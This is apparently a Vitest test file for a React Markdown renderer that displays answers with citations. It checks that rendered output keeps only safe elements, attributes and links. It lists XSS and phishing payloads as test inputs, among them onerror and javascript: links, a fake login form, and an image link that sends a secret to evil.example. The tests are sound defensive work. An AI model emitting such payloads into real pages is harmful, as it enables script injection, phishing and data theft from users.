import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { MantineProvider } from "@mantine/core";
import { describe, expect, it, vi } from "vitest";
import type { Citation } from "../api/types";
import { draw, redraw } from "../test-draw";
import { targetOf } from "./links";
import { Markdown } from "./Markdown";

vi.mock("@tanstack/react-router", () => ({
  Link: ({ to, children }: { to: string; children: React.ReactNode }) => (
    <a href={to}>{children}</a>
  ),
}));
vi.mock("react-i18next", () => ({ useTranslation: () => ({ t: (key: string) => key }) }));

const citation: Citation = {
  n: 1,
  article: "a1",
  lang: "en",
  title: "VPN",
  anchor: "p2",
  quote: "Close it.",
};

const page = (text: string, citations: Citation[]) => (
  <MantineProvider env="test">
    <Markdown text={text} citations={citations} />
  </MantineProvider>
);

function drawn(text: string, citations: Citation[] = []): HTMLElement {
  const out = draw(page(text, citations)).querySelector("div");
  if (!out) throw new Error("nothing was drawn");
  return out;
}

// What no answer may ever put on the page (SECURITY G1, G3, G6).
const elements = new Set(
  "a p span div ul ol li em strong del code pre blockquote hr br h3 h4 h5 h6 table thead tbody tr th td sup".split(
    " ",
  ),
);
const attributes = new Set([
  "class",
  "href",
  "target",
  "rel",
  "referrerpolicy",
  "start",
  "tabindex",
  "align",
  "aria-hidden",
  "aria-label",
  "data-citation",
  "title",
]);

function harmless(el: HTMLElement, what: string) {
  const bad: string[] = [];
  for (const x of el.getElementsByTagName("*")) {
    if (!elements.has(x.localName)) bad.push(x.localName);
    for (const { name } of x.attributes) {
      if (!attributes.has(name) && !name.startsWith("aria-")) bad.push(`${x.localName} ${name}`);
    }
    const href = x.getAttribute("href");
    if (href !== null && !/^(https?:\/\/|\/articles\/|\/tickets\/|\/c\/)/.test(href))
      bad.push(href);
  }
  expect(bad, what).toEqual([]);
}

describe("an answer", () => {
  it.each([
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/pixel",
    "[click](javascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:x)",
    "[click](//evil.example)",
    "[click](/api/v1/session)",
    "[x](https://user:pass@evil.example)",
    "<javascript:alert(1)>",
    "<form action=/x><button>Confirm restart</button><input name=code></form>",
    '<div class="card">Enter your code</div>',
    "- [ ] tick\n- [x] ticked",
    "text[^1]\n\n[^1]: a note",
    "<svg><script>alert(1)</script></svg>",
    '<a href="https://evil.example" ping="https://evil.example">x</a>',
    "```html\n<script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| ![i](https://e.example/i.png) | <b onclick=x>y</b> |",
  ])("cannot bring anything but text and safe links: %s", (text) => harmless(drawn(text), text));

  it("cannot dress as a part of the portal", () => {
    const el = drawn("# Big\n\n```card\nx\n```\n\n- [ ] a");
    for (const x of el.querySelectorAll("h1, h2, [class*=language], [class*=task]")) {
      expect(x.outerHTML).toBe("");
    }
  });

  it("shows the host of a foreign link, and opens it without a trace", () => {
    const a = drawn("[your bank](https://evil.example/login)").querySelector("a");
    expect(a?.textContent).toBe("your bank (evil.example)");
    expect(a?.rel).toContain("noopener");
    expect(a?.target).toBe("_blank");
  });

  it("cannot hide the host behind a text that looks like an address", () => {
    const a = drawn("[https://bank.example](https://evil.example/)").querySelector("a");
    expect(a?.textContent).toContain("evil.example");
    expect(a?.textContent).not.toContain("bank.example");
  });
});

describe("a citation", () => {
  it("is a link to the passage where the number is known, and text where it is not", () => {
    const el = drawn("Close it. [1] Or not. [7]", [citation]);
    const a = el.querySelector("a[data-citation='1']");
    expect(a?.getAttribute("href")).toBe("/articles/a1?lang=en#p2");
    expect(el.textContent).toContain("[7]");
  });

  it("stays ours when the answer defines the number as a link", () => {
    const el = drawn("Close it. [1]\n\n[1]: https://evil.example", [citation]);
    expect([...el.querySelectorAll("a")].map((a) => a.getAttribute("href"))).toEqual([
      "/articles/a1?lang=en#p2",
    ]);
  });

  it("is left alone in code", () => {
    expect(drawn("`a[1]`", [citation]).querySelector("a")).toBeNull();
  });
});

it("however an answer arrives, its end looks the same", () => {
  const text = "A **bold** [link](https://x.example) and [1].\n\n1. one\n2. two `code`\n\n> said";
  const whole = drawn(text, [citation]).innerHTML;
  const host = draw(null);
  for (let end = 0; end <= text.length; end += 3) {
    const part = end + 3 > text.length ? text : text.slice(0, end);
    redraw(page(part, [citation]));
    const now = host.querySelector("div");
    if (now) harmless(now, part);
  }
  const ids = (html: string) => html.replace(/mantine-[\w-]+/g, "");
  expect(ids(host.querySelector("div")?.innerHTML ?? "")).toBe(ids(whole));
});

describe("links", () => {
  it.each([
    ["/articles/abc-1?lang=de#p3", "inside"],
    ["/tickets/0190-1", "inside"],
    ["/admin", undefined],
    ["/articles/../api/v1/session", undefined],
    ["//evil.example", undefined],
    ["https://example.com/x", "outside"],
    ["HTTPS://example.com", "outside"],
    ["https://a@b.example", undefined],
    ["javascript:alert(1)", undefined],
    ["java\nscript:alert(1)", undefined],
    ["", undefined],
  ])("%s leads %s", (href, kind) => expect(targetOf(href)?.kind).toBe(kind));
});

// The payloads are data that lies beside the repository, not in it.
const shared = join(import.meta.dirname, "../../../../../shared/data/security");
describe.skipIf(!existsSync(shared) && !process.env.CI)("known attacks", () => {
  it("all come out harmless", () => {
    const pairs = JSON.parse(readFileSync(join(shared, "xss/dompurify-expect.json"), "utf8")) as {
      payload: string;
    }[];
    const lines = readFileSync(join(shared, "fuzzdb/html_js_fuzz_HTML5sec_Injections.txt"), "utf8");
    const payloads = [...pairs.map((p) => p.payload), ...lines.split("\n")];
    expect(payloads.length).toBeGreaterThan(300);
    for (const p of payloads) harmless(drawn(p), p);
  }, 60_000);
});
